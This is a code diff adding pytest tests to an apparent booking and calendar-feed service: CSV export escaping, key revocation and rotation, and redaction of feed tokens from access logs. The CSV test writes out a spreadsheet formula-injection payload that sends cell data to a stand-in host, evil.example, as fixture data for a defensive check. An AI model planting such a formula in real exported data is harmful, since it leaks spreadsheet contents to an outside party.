@@ -181,3 +181,113 @@ def test_feed_rules(client: TestClient, world: World) -> None:
     me = client.get("/me", headers=auth(world.coord1)).json()
     client.post(f"/users/{me['id']}/revoke", headers=auth(world.admin))
     assert client.get(str(made["url"])).status_code == 404
+
+
+def test_csv_cells_never_start_a_formula(client: TestClient, world: World) -> None:
+    """OWASP CSV injection: a note or a reason a spreadsheet would run is written as text."""
+    now = utcnow()
+    note = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
+    with transaction() as s:
+        booking = Booking(
+            set_id=world.set_a1,
+            crew_id=world.crew1,
+            start_date=day(10),
+            end_date=day(12),
+            status="confirmed",
+            placed_at=now,
+            confirmed_at=now,
+            price=20_000,
+            note=note,
+        )
+        s.add(booking)
+        s.add(
+            Blackout(set_id=world.set_a1, start_date=day(13), end_date=day(14), reason="@SUM(A1)")
+        )
+        s.add(Blackout(set_id=world.set_a2, start_date=day(13), end_date=day(14), reason="\t-2+3"))
+    table = rows(client.get("/bookings.csv", headers=auth(world.coord1)).content)
+    assert table[0]["note"] == "'" + note
+    assert table[0]["price_yuan"] == "20000"  # numbers stay numbers
+    grid = rows(
+        client.get(
+            f"/bases/{world.base_a}/occupancy.csv",
+            params={"start": iso(13), "end": iso(14)},
+            headers=auth(world.manager_a),
+        ).content
+    )
+    reasons = {x["set_code"]: x["blackout_reason"] for x in grid}
+    assert reasons == {"AAA-1": "'@SUM(A1)", "AAA-2": "'\t-2+3"}
+    for cell in (c for row in table + grid for c in row.values()):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_revoking_the_key_kills_feeds_for_good(client: TestClient, world: World) -> None:
+    """A rotation makes the user active again; their feeds revoked with the key stay dead,
+    and a rotation alone ends the feeds made with the old key too."""
+    before = _feed(client, world.coord1, kind="crew", crew_id=world.crew1)
+    me = client.get("/me", headers=auth(world.coord1)).json()
+    assert client.post(f"/users/{me['id']}/revoke", headers=auth(world.admin)).status_code == 200
+    assert client.get(str(before["url"])).status_code == 404
+    rotated = client.post(f"/users/{me['id']}/rotate-key", headers=auth(world.admin)).json()
+    assert rotated["active"] is True
+    assert client.get(str(before["url"])).status_code == 404
+    listed = client.get("/feeds", headers=auth(rotated["api_key"])).json()
+    assert [f["active"] for f in listed] == [False]
+    # Made with the new key, ended by the next rotation.
+    after = _feed(client, rotated["api_key"], kind="crew", crew_id=world.crew1)
+    assert client.get(str(after["url"])).status_code == 200
+    client.post(f"/users/{me['id']}/rotate-key", headers=auth(world.admin))
+    assert client.get(str(after["url"])).status_code == 404
+
+
+def test_feed_tokens_never_reach_the_access_log(engine: object, world: World) -> None:
+    """The server's access log names a feed by its id; unknown or revoked tokens are redacted."""
+    import logging
+    import threading
+    import time
+
+    import httpx
+    import uvicorn
+
+    from app.main import create_app
+    from tests.conftest import _free_port
+
+    port = _free_port()
+    server = uvicorn.Server(
+        uvicorn.Config(create_app(), host="127.0.0.1", port=port, log_level="info")
+    )
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    while not server.started:
+        time.sleep(0.02)
+    lines: list[str] = []
+
+    class Keep(logging.Handler):
+        def emit(self, record: logging.LogRecord) -> None:
+            lines.append(record.getMessage())
+
+    keep = Keep()
+    logging.getLogger("uvicorn.access").addHandler(keep)
+    try:
+        with httpx.Client(base_url=f"http://127.0.0.1:{port}") as http:
+            made = http.post(
+                "/feeds", json={"kind": "crew", "crew_id": world.crew1}, headers=auth(world.coord1)
+            ).json()
+            token = str(made["token"])
+            assert http.get(f"/feeds/{token}.ics").status_code == 200
+            assert http.get(f"/feeds/{token}.ics?x=1").status_code == 200
+            assert http.post(f"/feeds/{token}.ics").status_code == 405
+            assert http.get(f"/feeds/{token}").status_code == 404
+            http.post(f"/feeds/{made['id']}/revoke", headers=auth(world.coord1))
+            assert http.get(f"/feeds/{token}.ics").status_code == 404
+        deadline = time.monotonic() + 5
+        while len(lines) < 7 and time.monotonic() < deadline:
+            time.sleep(0.02)
+    finally:
+        logging.getLogger("uvicorn.access").removeHandler(keep)
+        server.should_exit = True
+        thread.join(timeout=10)
+    assert len(lines) == 7, lines
+    assert not any(token in line or token[4:20] in line for line in lines), lines
+    assert sum(f'"GET /feeds/{made["id"]}.ics' in line for line in lines) == 2, lines
+    assert f'"POST /feeds/{made["id"]}/revoke' in "".join(lines)
+    assert sum("/feeds/<token>.ics" in line for line in lines) == 3, lines
